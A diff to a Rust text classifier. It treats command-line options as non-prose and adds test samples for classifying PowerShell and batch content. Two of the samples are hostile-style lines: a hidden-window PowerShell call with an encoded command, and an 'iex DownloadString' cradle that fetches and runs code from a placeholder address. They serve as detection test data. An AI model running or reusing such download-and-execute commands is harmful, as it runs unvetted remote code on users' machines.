@@ -222,6 +222,11 @@ fn is_prose(line: &str) -> bool {
         return false;
     }
     for word in line.split_ascii_whitespace().take(40) {
+        // An option of a command.
+        if word.starts_with('-') && word.len() > 1 {
+            others = others.saturating_add(1);
+            continue;
+        }
         let bare = word.trim_matches([
             ',', '.', ':', '!', '?', '(', ')', '-', '\'', '*', '`', '“', '”',
         ]);
@@ -310,6 +315,14 @@ mod tests {
             ),
             (
                 "param([string]$Name)\nWrite-Host \"Hello $Name\"\nif ($Name -eq 'x') { Get-ChildItem | ForEach-Object { $_.Name } }\n",
+                Kind::Ps1,
+            ),
+            (
+                "powershell -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\n",
+                Kind::Bat,
+            ),
+            (
+                "iex ((New-Object Net.WebClient).DownloadString('http://192.0.2.1/a'))",
                 Kind::Ps1,
             ),
             (
